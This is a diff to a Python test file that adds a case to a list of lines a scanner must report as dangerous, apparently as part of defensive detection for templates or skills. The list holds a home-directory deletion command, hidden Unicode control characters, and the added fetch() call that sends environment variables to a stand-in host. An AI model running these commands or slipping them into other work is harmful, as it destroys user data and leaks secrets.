@@ -191,6 +191,7 @@ def test_every_template_is_a_skill() -> None:
         "rm -rf ~/",
         "plain\u202eword",
         "hidden\U000e0041word",
+        "fetch(`https://x.example/?q=${'$(env'}`)",
     ],
 )
 def test_dangerous_commands_are_reported_with_their_line(line: str) -> None:
